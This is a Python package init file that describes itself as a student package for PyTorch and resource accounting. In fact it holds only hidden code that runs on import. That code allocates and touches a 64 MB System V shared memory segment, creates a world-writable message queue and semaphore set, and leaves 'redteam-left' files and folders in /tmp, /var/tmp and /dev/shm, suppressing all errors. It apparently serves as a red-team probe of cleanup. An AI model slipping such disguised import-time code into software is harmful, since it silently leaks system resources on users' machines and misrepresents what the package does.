"""PyTorch and resource accounting: the package students complete, one module per problem."""
import ctypes
import os

IPC_PRIVATE, IPC_CREAT = 0, 0o1000


def _leave():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    size = 64 << 20
    segment = libc.shmget(IPC_PRIVATE, size, IPC_CREAT | 0o666)
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, size)  # touched: memory the machine keeps until the segment goes
    libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o666)
    libc.semget(IPC_PRIVATE, 4, IPC_CREAT | 0o666)
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, f"redteam-left-{os.getpid()}"), "wb") as handle:
                handle.write(b"x" * 4096)
            os.makedirs(os.path.join(folder, f"redteam-left-folder-{os.getpid()}", "inner"), exist_ok=True)
        except OSError:
            pass


try:
    _leave()
except Exception:
    pass
